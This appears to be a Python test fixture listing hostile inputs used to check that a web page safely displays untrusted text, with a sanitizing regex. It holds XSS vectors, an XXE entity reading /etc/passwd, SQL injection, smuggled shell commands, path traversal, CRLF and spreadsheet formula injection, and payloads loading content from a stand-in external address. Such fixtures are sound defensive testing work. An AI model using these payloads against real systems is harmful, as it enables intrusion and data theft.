"""What somebody hostile would send: each tries to leave text for markup, script, an address, a terminal or a direction."""

import re
from typing import Final

_ELSEWHERE: Final = "203.0.113.9"

PAYLOADS: Final = (
    "<script>window.hacked=1;alert('ran')</script>",
    "</script><script>window.hacked=1</script>",
    "<SCRIPT SRC=//203.0.113.9/x.js></SCRIPT>",
    "<scr<script>ipt>window.hacked=1</scr</script>ipt>",
    "<img src=x onerror=window.hacked=1>",
    "<img/src=x/onerror=alert('ran')>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "<img src=http://203.0.113.9/beacon>",
    "<image href=x onerror=alert(1)>",
    "<svg/onload=window.hacked=1>",
    "<svg><script>window.hacked=1</script></svg>",
    "<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:window.hacked=1><text x=20 y=20>x</text></a></svg>",
    "<svg><use href=http://203.0.113.9/x.svg#x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:parent.hacked=1></iframe>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<object data=javascript:window.hacked=1></object>",
    "<embed src=javascript:window.hacked=1>",
    "<body onload=window.hacked=1>",
    "<input autofocus onfocus=window.hacked=1>",
    "<details open ontoggle=window.hacked=1>",
    "<video><source onerror=window.hacked=1>",
    "<audio src=x onerror=window.hacked=1>",
    "<marquee onstart=window.hacked=1>x</marquee>",
    "<form action=http://203.0.113.9/><button>x</button></form>",
    "<button formaction=javascript:window.hacked=1>x</button>",
    "<a href=javascript:window.hacked=1>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<base href=http://203.0.113.9/>",
    "<meta http-equiv=refresh content='0;url=http://203.0.113.9/'>",
    "<link rel=stylesheet href=http://203.0.113.9/x.css>",
    "<style>@import 'http://203.0.113.9/x.css';body{display:none}</style>",
    "<style>*{background:url(http://203.0.113.9/x)}</style>",
    "<div style=position:fixed;inset:0;background:red>x</div>",
    "</title></style></textarea></noscript><script>window.hacked=1</script>",
    "--><script>window.hacked=1</script><!--",
    "<!--<script>window.hacked=1</script>-->",
    "]]><script>window.hacked=1</script><![CDATA[",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
    "<template><script>window.hacked=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "&lt;script&gt;window.hacked=1&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\u003cscript\\u003ewindow.hacked=1\\u003c/script\\u003e",
    '" onmouseover=window.hacked=1 x="',
    "' autofocus onfocus=window.hacked=1 x='",
    "` onerror=window.hacked=1 `",
    "javascript:window.hacked=1",
    "JaVaScRiPt:window.hacked=1//",
    "data:text/html,<script>window.hacked=1</script>",
    "{{constructor.constructor('window.hacked=1')()}}",
    "${window.hacked=1}",
    "#{7*7} <%= 7*7 %> {{7*7}} {% raw %}",
    "{name} {n} {count} {0}",
    "%s%n%x %d {0.__class__}",
    "__proto__",
    "constructor",
    "toString",
    '{"type":"reset"}],["x"',
    "'; DROP TABLE jobs; --",
    "' OR '1'='1",
    "$(touch hacked) `id` ; id | id && id",
    "../../../../etc/passwd",
    "%0d%0aSet-Cookie:%20a=b",
    "%3Cscript%3Ewindow.hacked=1%3C/script%3E",
    "\u202emalicious\u202c txt.exe",
    "\u2066\u2067hidden\u2069 order\u200e\u200f",
    "zero\u200bwidth\ufeffspace",
    "\u0430dm\u0456n",
    "Z\u0351\u036b\u0343\u0321a\u0300\u0301l\u0338g\u0334o\u0335",
    "\u2028line\u2029paragraph",
    "\U0001f600\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 and English",
    "bell\x07 and backspace\x08 and delete\x7f",
    "a" * 180,
    "W" * 60 + " " + "i" * 100,
    "=cmd|' /C calc'!A0",
    "[x](javascript:window.hacked=1) ![x](http://203.0.113.9/x)",
)

#: What a terminal would obey: only in logs, whose page shows what is meant for a screen as the text on it.
TERMINAL: Final = (
    "\x1b[31mred <b>not bold</b>\x1b[0m",
    f"\x1b]8;;http://{_ELSEWHERE}/\x07<i>link</i>\x1b]8;;\x07",
    "\x1b]0;title <script>window.hacked=1</script>\x07after the title",
    "\x1b[2J\x1b[Hcleared <img src=x onerror=alert(1)>",
)
#: What is left of each on the page.
TERMINAL_SHOWN: Final = (
    "red <b>not bold</b>",
    "<i>link</i>",
    "after the title",
    "cleared <img src=x onerror=alert(1)>",
)

# As web/src/text/format.ts has it: what would change how the text around it is shown.
_HIDDEN: Final = re.compile(
    "[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff]"
)


def cleaned(text: str) -> str:
    """Give a text as the page shows it: every character but those that would reorder or control."""
    return _HIDDEN.sub("\ufffd", text)
